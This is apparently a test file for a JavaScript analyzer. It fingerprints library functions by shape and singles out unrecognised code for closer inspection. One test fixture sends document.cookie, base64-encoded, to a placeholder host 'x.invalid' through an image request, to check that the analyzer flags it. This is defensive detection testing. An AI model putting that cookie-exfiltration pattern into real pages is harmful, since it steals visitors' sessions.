import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import {
  functionShapes,
  knownCode,
  libraryFile,
  type LibraryCatalog,
} from '../../../analyzer/libraries/index.ts';
import { islandsOf } from '../../../analyzer/islands/index.ts';
import { parseScript } from '../../../analyzer/parse/index.ts';
import { collectFacts, type Facts } from '../../../analyzer/static/facts.ts';

const factsOf = (text: string): Facts => collectFacts(text, parseScript(text));
const shapesOf = (text: string): number[] => {
  const { tree, scopes } = factsOf(text);
  return functionShapes(tree!, scopes!).map(({ shape }) => shape);
};

/** A made-up library of three functions. */
const functions = ['each', 'map', 'filter'].map(
  (name) => `lib.${name} = function (list, callback) {
    var result = [];
    for (var index = 0; index < list.length; index++) {
      var value = callback(list[index], index);
      if (value !== false) result.push(value); else lib.${name}Ended(list);
    }
    return result.length > 0 ? result : null;
  };`,
);
const library = `(function (global) { var lib = global.lib = {}; ${functions.join('\n')} })(window);`;
/** Its functions, without the one around them all. */
const catalog: LibraryCatalog = new Map(
  shapesOf(library)
    .slice(1)
    .map((shape) => [shape, 'lib']),
);

describe('the shape of a function', () => {
  const [shape] = shapesOf(functions[0]!);

  it('is the same whatever its locals and texts are called', () => {
    const renamed = functions[0]!
      .replace(/result/g, 'r')
      .replace(/index/g, 'i')
      .replace(/callback/g, 'c');
    assert.deepEqual(shapesOf(renamed), [shape]);
  });

  it('is another when it uses other properties or does other things', () => {
    assert.notDeepEqual(shapesOf(functions[0]!.replace('.push', '.unshift')), [shape]);
    assert.notDeepEqual(shapesOf(functions[0]!.replace('!== false', '=== false && list')), [shape]);
  });

  it('is not told of small functions, which are alike everywhere', () => {
    assert.deepEqual(shapesOf('function f(a) { return a + 1; }'), []);
  });
});

describe('well-known libraries', () => {
  it('are recognised among other code, with their share of it', () => {
    const { libraries } = knownCode(
      factsOf(`var shop = { open: true };\n${library}\nshop.start();`),
      catalog,
    );
    assert.deepEqual(
      libraries.map((one) => one.library),
      ['lib'],
    );
    assert.ok(libraries[0]!.share > 0.6 && libraries[0]!.share < 1);
  });

  it('are not named for a function or two that others have as well', () => {
    const part = library.replace(functions[2]!, '');
    assert.deepEqual(knownCode(factsOf(part), catalog).libraries, []);
  });

  it('leave the closer look to what is not theirs', () => {
    const signs = 'document.cookie; new Image().src = location.href; atob(navigator.userAgent);';
    const own = functions
      .map((one) => one.replace('var result', `${signs} var result`))
      .map((one) => `(function () { var lib = {}; ${one} })();`);
    const known: LibraryCatalog = new Map(own.flatMap((one) => shapesOf(one)).map((shape) => [shape, 'lib']));
    const guest = `(function () { var c = document.cookie; ${signs} new Image().src = 'https://x.invalid/?' + btoa(c); })();`;
    const text = `${own.join('\n')}${guest}${'//'.padEnd(4000)}`;
    const facts = factsOf(text);
    const places = islandsOf(facts, knownCode(facts, known).isKnown).map((island) => island.text);
    assert.ok(places.length > 0);
    assert.ok(places.every((place) => place.includes('x.invalid')));
    assert.ok(
      islandsOf(facts, new Uint8Array(facts.tree!.count)).some(({ text: one }) => !one.includes('x.invalid')),
    );
  });

  it('that ship are those of the list', async () => {
    const read = (name: string): Promise<string> =>
      readFile(new URL(`../../../models/${name}`, import.meta.url), 'utf8');
    const { libraries } = libraryFile.parse(JSON.parse(await read('libraries.json')));
    const listed = (await read('libraries.txt')).split('\n').filter((line) => line && !line.startsWith('#'));
    const names = listed.map((line) => line.replace(/@[^@]*$/, '').replace(/-(?:dist|bundle)$/, ''));
    assert.deepEqual(
      names.filter((name) => !(name in libraries)),
      [],
    );
    assert.ok(Object.values(libraries).every((shapes) => shapes.length > 0));
  });
});
